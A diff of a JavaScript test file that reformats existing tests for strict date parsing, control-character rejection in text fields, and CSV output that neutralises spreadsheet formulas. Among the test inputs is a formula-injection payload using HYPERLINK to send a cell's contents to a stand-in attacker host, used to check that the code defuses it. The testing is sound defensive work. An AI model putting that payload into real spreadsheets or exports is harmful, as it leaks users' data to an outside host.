@@ -18,7 +18,26 @@ describe("strict input primitives (issue 9.9)", () => {
   });
 
   it("refuses null, booleans, numbers, rolled-over and out-of-range dates with a machine code", () => {
-    for (const v of [null, true, false, 0, -1, 123, 8.64e15, "", "2026-02-30", "2027-02-29", "2026-13-01", "2026-1-1", "2026-12-01T10:00", "2026-12-01T25:00:00Z", "+275760-09-13T00:00:00.000Z", "1970-01-01", "2101-01-01", "2026-12-01 10:00:00Z"]) {
+    for (const v of [
+      null,
+      true,
+      false,
+      0,
+      -1,
+      123,
+      8.64e15,
+      "",
+      "2026-02-30",
+      "2027-02-29",
+      "2026-13-01",
+      "2026-1-1",
+      "2026-12-01T10:00",
+      "2026-12-01T25:00:00Z",
+      "+275760-09-13T00:00:00.000Z",
+      "1970-01-01",
+      "2101-01-01",
+      "2026-12-01 10:00:00Z",
+    ]) {
       const r = parseStrictDate(v);
       expect(r.ok, String(v)).to.equal(false);
     }
@@ -29,7 +48,8 @@ describe("strict input primitives (issue 9.9)", () => {
   });
 
   it("refuses NUL, C0/C1 controls and lone surrogates; multi-line text keeps newline and tab", () => {
-    for (const s of ["a\u0000b", "a\u0007", "a\u001b[31m", "x\u0085", "a\u007f", "\ud800", "a\udc00b", "line\nbreak"]) expect(checkText(s, false).ok, JSON.stringify(s)).to.equal(false);
+    for (const s of ["a\u0000b", "a\u0007", "a\u001b[31m", "x\u0085", "a\u007f", "\ud800", "a\udc00b", "line\nbreak"])
+      expect(checkText(s, false).ok, JSON.stringify(s)).to.equal(false);
     expect(checkText("Ünïcödé 👍 ok", false).ok).to.equal(true);
     expect(checkText("first\nsecond\r\n\tthird 👍", true).ok).to.equal(true);
     expect(checkText("bare\rcarriage", true).ok).to.equal(false);
@@ -43,14 +63,22 @@ describe("strict input primitives (issue 9.9)", () => {
 
 describe("CSV cells (issue 9.3, issue 10.9)", () => {
   it("neutralises every text cell a spreadsheet would run as a formula", () => {
-    for (const s of ['=HYPERLINK("http://evil.example/?d="&A2,"Click")', "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1", "\r=1"]) expect(neutraliseCell(s)).to.equal(`'${s}`);
+    for (const s of ['=HYPERLINK("http://evil.example/?d="&A2,"Click")', "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1", "\r=1"])
+      expect(neutraliseCell(s)).to.equal(`'${s}`);
     expect(neutraliseCell("Anne-Marie")).to.equal("Anne-Marie");
   });
 
   it("keeps numbers numeric (negative too), with a decimal comma in the Dutch format", () => {
     expect(formatNumber(-25.75, true)).to.equal("-25,75");
     expect(formatNumber(75.75)).to.equal("75.75");
-    const csv = toCsv([["name", "remaining"], ["-1+1", -25.75], ['Say "hi"', 3]], { delimiter: ";", decimalComma: true, bom: true });
+    const csv = toCsv(
+      [
+        ["name", "remaining"],
+        ["-1+1", -25.75],
+        ['Say "hi"', 3],
+      ],
+      { delimiter: ";", decimalComma: true, bom: true },
+    );
     expect(csv).to.equal('\uFEFF"name";"remaining"\r\n"\'-1+1";-25,75\r\n"Say ""hi""";3\r\n');
   });
 });
